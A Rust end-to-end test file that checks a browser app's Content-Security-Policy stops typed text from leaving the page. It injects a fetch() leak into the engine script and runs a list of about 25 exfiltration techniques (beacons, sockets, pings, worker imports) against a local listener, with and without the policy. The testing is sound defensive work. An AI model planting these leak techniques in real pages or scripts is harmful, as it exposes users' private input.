//! Nothing leaves the page, and the browser is who sees to it.

use std::collections::BTreeSet;
use std::fs;
use std::io::{Read, Write};
use std::net::TcpListener;
use std::sync::{Arc, Mutex};
use std::thread;
use std::time::{Duration, Instant};

use crate::browser::{Browser, CLEAR};
use crate::driver::Kind;
use crate::offline::client;
use crate::site::Site;
use crate::support::{
    GLOWING, RELAXED, SCATHING, THREAT, answer_to, copy, dist, engine, open, open_site_in, read_answer, run_in_worker,
};

in_all_browsers!(typing_asks_no_server_for_anything, every_way_out_that_a_policy_can_shut_is_shut);

/// What somebody types, or that they do, is told to no server, the page's own included.
fn typing_asks_no_server_for_anything(kind: Kind) {
    let (site, browser) = open_site_in(kind);
    answer_to(&browser, GLOWING);
    // The browser keeps what it has for the next visit, and then is quiet.
    browser.wait("the page to be kept", "return document.querySelector('#offline').checkVisibility()");
    let before = site.requests("").len();
    browser.press("#text", CLEAR);
    for words in [SCATHING, THREAT, GLOWING] {
        browser.press("#text", words);
        read_answer(&browser);
    }
    // The browser may still look whether there is another service worker.
    let asked = site.requests("").split_off(before);
    assert!(asked.iter().all(|path| path.ends_with("/sw.js")), "{asked:?}");
    assert_eq!(browser.complaints(), Vec::<String>::new());
}

/// What an engine gone bad would do: tell somebody else what was typed.
#[test]
#[ignore = "needs the built site: make e2e"]
fn the_browser_lets_the_engine_tell_nobody() {
    let dist = dist();
    let stranger = TcpListener::bind("127.0.0.1:0").expect("a free port");
    stranger.set_nonblocking(true).expect("a listener can be set not to block");
    let port = stranger.local_addr().expect("a bound listener has an address").port();
    let copy = copy(&dist);
    let script = engine(copy.path()).join(format!("{RELAXED}.js"));
    let code = fs::read_to_string(&script).expect("the engine can be read");
    let leak = format!("fetch('http://127.0.0.1:{port}/', {{ mode: 'no-cors' }}).catch(() => {{}});");
    fs::write(&script, format!("{leak}\n{code}")).expect("the engine can be written");

    let visit = || {
        let site = Site::serve(copy.path());
        let browser = Browser::start();
        open(&browser, &site.address());
        answer_to(&browser, GLOWING);
        thread::sleep(Duration::from_secs(1));
        stranger.accept().is_ok()
    };
    assert!(!visit(), "the engine has told somebody else");

    // Without the policy it would have: so what held it back is the policy, and the test can tell.
    let page = copy.path().join("index.html");
    let html = fs::read_to_string(&page).expect("the page can be read");
    fs::write(&page, html.replace("Content-Security-Policy", "no-policy")).expect("the page can be written");
    assert!(visit(), "without a policy nothing holds the engine back");
}

/// What a page's script can do to have an address asked for, `to`, and the name by which the stranger knows it. `add` puts an element into the page.
/// What no policy shuts is not among them: docs/SECURITY.md names it.
const WAYS_OF_A_PAGE: [(&str, &str); 19] = [
    ("background", "document.body.style.backgroundImage = `url(${to})`"),
    ("beacon", "navigator.sendBeacon(to, 'said')"),
    ("events", "new EventSource(to)"),
    ("fetch", "fetch(to, { mode: 'no-cors' }).catch(() => {})"),
    ("font", "new FontFace('said', `url(${to})`).load().catch(() => {})"),
    ("form", "add('iframe', { name: 'sink' }); add('form', { action: to, target: 'sink', method: 'post' }).submit()"),
    ("frame", "add('iframe', { src: to })"),
    ("image", "new Image().src = to"),
    ("import", "import(to).catch(() => {})"),
    ("keepalive", "fetch(to, { mode: 'no-cors', method: 'POST', body: 'said', keepalive: true }).catch(() => {})"),
    ("object", "add('object', { data: to })"),
    ("ping", "add('a', { href: '#', ping: to }).click()"),
    ("prefetch", "add('link', { rel: 'prefetch', href: to })"),
    ("request", "const request = new XMLHttpRequest(); request.open('GET', to); request.send()"),
    ("script", "add('script', { src: to })"),
    ("socket", "new WebSocket(to.replace('http', 'ws'))"),
    ("sound", "new Audio(to).play().catch(() => {})"),
    ("style", "add('link', { rel: 'stylesheet', href: to })"),
    ("worker", "new Worker(URL.createObjectURL(new Blob([`importScripts('${to}')`])))"),
];

/// The same of the engine's worker, where there is no page to add to. What a worker within it could do the policy does not tell in every browser:
/// so there is none.
const WAYS_OF_A_WORKER: [(&str, &str); 6] = [
    ("nested-events", "new Worker(URL.createObjectURL(new Blob([`new EventSource('${to}')`])))"),
    ("worker-events", "new EventSource(to)"),
    ("worker-fetch", "fetch(to, { mode: 'no-cors' }).catch(() => {})"),
    ("worker-import", "importScripts(to)"),
    ("worker-request", "const request = new XMLHttpRequest(); request.open('GET', to); request.send()"),
    ("worker-socket", "new WebSocket(to.replace('http', 'ws'))"),
];

/// A server that is not the page's, and notes by which ways it was asked.
struct Stranger {
    port: u16,
    heard: Arc<Mutex<BTreeSet<String>>>,
}

impl Stranger {
    fn listen() -> Self {
        let listener = TcpListener::bind("127.0.0.1:0").expect("a free port");
        let port = listener.local_addr().expect("a bound listener has an address").port();
        let heard = Arc::new(Mutex::new(BTreeSet::new()));
        let noted = Arc::clone(&heard);
        thread::spawn(move || {
            for mut stream in listener.incoming().flatten() {
                let noted = Arc::clone(&noted);
                // Browsers open connections beforehand and say nothing: each waits for itself.
                thread::spawn(move || {
                    let mut bytes = [0; 1024];
                    let length = stream.read(&mut bytes).unwrap_or(0);
                    let request = String::from_utf8_lossy(&bytes[..length]);
                    if let Some(way) = request.split(['/', ' ', '?']).nth(2).filter(|way| !way.is_empty()) {
                        noted.lock().expect("nobody panics with it").insert(way.to_owned());
                    }
                    let _ = stream.write_all(
                        b"HTTP/1.1 204 No Content\r\nAccess-Control-Allow-Origin: *\r\nConnection: close\r\n\r\n",
                    );
                });
            }
        });
        Self { port, heard }
    }

    /// By which ways it was asked, as soon as it was by all of `ways`, or else after `patience`.
    fn heard(&self, ways: &BTreeSet<String>, patience: Duration) -> BTreeSet<String> {
        let begun = Instant::now();
        loop {
            let heard = self.heard.lock().expect("nobody panics with it").clone();
            if heard == *ways || begun.elapsed() > patience {
                return heard;
            }
            thread::sleep(Duration::from_millis(50));
        }
    }
}

fn every_way_out_that_a_policy_can_shut_is_shut(kind: Kind) {
    let all: BTreeSet<_> = WAYS_OF_A_PAGE
        .iter()
        .chain(&WAYS_OF_A_WORKER)
        .map(|(way, _)| (*way).to_owned())
        // WebKitGTK prefetches nothing, and Firefox pings nobody unless it is told to.
        .filter(|way| !matches!((kind, &way[..]), (Kind::WebKit, "prefetch") | (Kind::Firefox, "ping")))
        .collect();
    let dist = dist();
    let visit = |is_held: bool, patience| {
        let stranger = Stranger::listen();
        let to = |way: &str| format!("const to = 'http://127.0.0.1:{}/{way}';", stranger.port);
        let copy = copy(&dist);
        if !is_held {
            let replace = |name: &str, from: &str, to: &str| {
                let path = copy.path().join(name);
                let content = fs::read_to_string(&path).expect("the file can be read");
                assert!(content.contains(from), "{name} has {from}");
                fs::write(&path, content.replace(from, to)).expect("the file can be written");
            };
            replace("index.html", "Content-Security-Policy", "no-policy");
            // What the policy does not hold everywhere is taken from the worker.
            replace(&format!("{}/boot.js", client(copy.path())), "Reflect.deleteProperty", "void ");
        }
        let of_worker = WAYS_OF_A_WORKER.map(|(way, code)| format!("try {{ {} {code}; }} catch {{}}", to(way)));
        run_in_worker(copy.path(), &of_worker.join("\n"));

        let site = Site::serve(copy.path());
        let browser = Browser::of(kind);
        open(&browser, &site.address());
        answer_to(&browser, GLOWING);
        let add = "const add = (name, has) => { const element = Object.assign(document.createElement(name), has); document.body.append(element); return element; };";
        for (way, code) in WAYS_OF_A_PAGE {
            browser.run(&format!("{add} {} try {{ {code}; }} catch {{}} return true", to(way)));
        }
        stranger.heard(&all, patience)
    };
    assert_eq!(visit(true, Duration::from_secs(2)), BTreeSet::new());

    // Without the policy each of them leads to the stranger, so that the test can tell.
    assert_eq!(visit(false, Duration::from_secs(20)), all);
}
